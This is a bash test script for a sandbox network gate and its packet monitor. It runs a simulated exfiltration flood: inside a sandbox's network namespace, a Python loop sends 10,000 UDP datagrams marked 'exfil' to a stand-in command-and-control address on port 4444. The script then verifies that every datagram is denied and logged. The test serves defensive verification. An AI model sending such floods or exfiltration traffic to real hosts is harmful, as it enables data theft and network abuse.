#!/bin/bash
# Denied packets, as the monitor reads them from NFLOG in the gate: a process that escaped into a
# sandbox's network namespace floods the C2 with 10,000 UDP datagrams; the gate drops every one,
# and the monitor stores them as a handful of net.denied events of that sandbox whose counts add
# up to exactly 10,000, with nothing dropped, unparsed or unattributed on the way.
. "$(dirname "$0")/../lib.sh"
fb_setup
N=10000

world_up
detectors_record_only
start_daemon --config "$FB_CONF"
create_sandbox dp1 "$FB_ROOT/tests/policies/egress.json"
init=$(python3 -c "import json,sys; print(json.load(open(sys.argv[1]))['init_pid'])" \
	"$FIREBREAK_RUNTIME_DIR/sandboxes/dp1/state.json")

# The receive backlog of a CPU could drop a datagram before the gate saw it; the kernel counts
# such drops in softnet_stat's second column, so the test knows the gate saw all N.
softnet_drops() { python3 -c 'import sys; print(sum(int(l.split()[1], 16) for l in open("/proc/net/softnet_stat")))'; }
before=$(softnet_drops)
bash "$WORLDSH" capture-start "$WORLD" flood || fail "capture-start"
nsenter --net="/proc/$init/ns/net" python3 -c '
import socket, sys, time
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for i in range(int(sys.argv[1])):
    s.sendto(b"exfil %d" % i, ("203.0.113.66", 4444))
    if i % 200 == 199:
        time.sleep(0.002)
' "$N" || fail "the flood did not run"
nflog_marker dp1 # every aggregate of the flood is stored by then
assert_eq "$(bash "$WORLDSH" capture-stop "$WORLD" flood)" "0" "not one datagram arrived in the world"
assert_eq "$(softnet_drops)" "$before" "no datagram was dropped before the gate"

"$FB" timeline dp1 --json >"$T/tl.jsonl" || fail "timeline"
python3 - "$T/tl.jsonl" "$N" <<'PY' || fail "net.denied events"
import json, sys
n = int(sys.argv[2])
ev = [e for e in map(json.loads, open(sys.argv[1])) if e["kind"] == "net.denied"]
flood = [e for e in ev if e["fields"]["dst"] == "203.0.113.66" and e["fields"]["port"] == 4444]
total = sum(e["fields"]["packets"] for e in flood)
assert total == n, "the events add up to %d, not %d" % (total, n)
assert 1 <= len(flood) <= 10, "%d events for one flood" % len(flood)
for e in flood:
    f = e["fields"]
    assert e["source"] == "nflog" and e["sandbox"] == "dp1" and f["proto"] == "udp", e
    assert f["first_ts"] <= f["last_ts"] and f["src"].startswith("10.199."), f
print("   %d datagrams in %d events" % (total, len(flood)))
PY
ok "$N denied datagrams became a handful of net.denied events that add up to exactly $N"
"$FB" status --json | python3 -c "
import json, sys
n = json.load(sys.stdin)['nflog']
assert n['packets'] == n['packets_stored'] + n['unattributed'] + n['pending'], n
assert n['unattributed'] == 0 and n['unparsed'] == 0 and n['kernel_drops'] == 0 and n['lost'] == 0, n
" || fail "NFLOG counters: $("$FB" status --json)"
ok "every packet read was stored in an event: none dropped, unparsed or unattributed"
grep 'libpcap' "$FB_LOG" && fail "the NFLOG reader logged errors"
ok "the NFLOG reader logged no error (an idle non-blocking read is not one)"
check "destroy" "$FB" destroy dp1
assert_no_leftovers "after the denied-packet test"
stop_daemon
